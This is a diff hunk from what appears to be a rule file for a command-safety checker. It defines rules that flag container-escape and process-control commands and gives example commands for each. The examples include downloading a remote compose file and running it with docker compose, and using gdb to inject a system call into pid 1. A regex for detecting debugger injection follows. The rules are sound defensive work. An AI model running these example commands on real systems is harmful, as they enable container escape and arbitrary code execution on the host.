@@ -50,7 +50,8 @@ static_rule("CTR-010", "container-escape", "ask",
             "written by a program, or on stdin)", "curl -o c.yml https://x.example/c.yml && docker compose -f c.yml up")
 static_rule("PROC-005", "process-control", "ask",
             "attaches a debugger or tracer to pid 1 (the host's init when the pid namespace is shared) or runs "
-            "code in another process, or reads another process's open files", "gdb -p 1 -batch -ex 'call system(\"id\")'")
+            "code in another process, or reads another process's open files",
+            "gdb -p 1 -batch -ex 'call system(\"id\")'")
 
 _BLOCK = re.compile(T.BLOCK_DEVICE)
 _INJECT = re.compile(r"^(?:call|print|p|shell|!|compile|python|source|dprintf|set\s+var)\b.*(?:\(|\bsystem\b)|"
